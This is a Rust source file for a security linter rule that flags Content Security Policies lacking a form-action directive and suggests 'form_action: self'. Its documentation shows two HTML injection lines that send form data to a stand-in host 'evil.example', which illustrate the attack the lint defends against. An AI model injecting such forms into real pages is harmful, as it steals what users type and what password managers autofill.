use crate::csp::attack::FORM;
use crate::csp::{ALLOW_FORMS, Csp, Directive};
use crate::diagnostic::Diagnostic;
use crate::lint::report::{Report, lint};
use crate::policy::SecurityPolicy;

lint! {
    /// # What it does
    ///
    /// Looks for an enforced policy that restricts what a page loads, but not where its forms are sent.
    ///
    /// # Why it matters
    ///
    /// To steal what users type, an attacker needs no script: a form is enough, and password managers fill it in.
    /// `default_src` does not cover where forms are sent.
    ///
    /// # Attack
    ///
    /// The attacker injects a form, with fields that the browser fills in, or a button that changes where an existing form is
    /// sent:
    ///
    /// ```html
    /// <form action="https://evil.example/"><button name="data">x</button></form>
    /// <button form="login" formaction="https://evil.example/">Sign in</button>
    /// ```
    ///
    /// # Example
    ///
    /// ```text
    /// content_security_policy: { default_src: self, base_uri: none },
    /// ```
    ///
    /// # Fix
    ///
    /// Write `self`, and the hosts of others that the site sends forms to. Chromium and Safari check redirects of a
    /// form too, so list where they lead.
    ///
    /// ```text
    /// content_security_policy: { default_src: self, base_uri: none, form_action: self },
    /// ```
    ///
    /// A page without forms writes `form_action: none`. A `sandbox` without `allow_forms` needs no `form_action`.
    ///
    /// # Allow
    ///
    /// ```text
    /// #[allow(csp_missing_form_action, reason = "sign-in redirects to the identity provider of each customer")]
    /// content_security_policy: { … },
    /// ```
    ///
    /// Reasonable where the targets cannot be listed.
    ///
    /// # References
    ///
    /// - [CSP3, section 6.4.1, form-action](https://w3c.github.io/webappsec-csp/#directive-form-action)
    /// - [HTML, formaction](https://html.spec.whatwg.org/multipage/form-control-infrastructure.html#attr-fs-formaction)
    Warn "forms may be sent anywhere" missing,
    cwe [693], asvs [],
    check
}

fn check(policy: &SecurityPolicy, report: &mut Report<'_>) {
    let enforced = policy.enforced();
    let restricts = |csp: &Csp| csp.get(Directive::FormAction).is_some() || csp.sandboxes(&ALLOW_FORMS);
    let Some(header) = enforced.iter().find(|csp| csp.node.restricts_fetches()) else { return };
    if !policy.serves_pages() || enforced.iter().any(|csp| restricts(csp.node)) {
        return;
    }
    report.push(
        Diagnostic::finding(header.span, "this policy does not restrict where forms are sent")
            .help("add `form_action: self`")
            .note(format!(
                "an injected `{}` sends what the user types to another site; `default_src` does not cover it",
                FORM.of_attacker()
            ))
            .insert(header.span, "form_action: self"),
    );
}
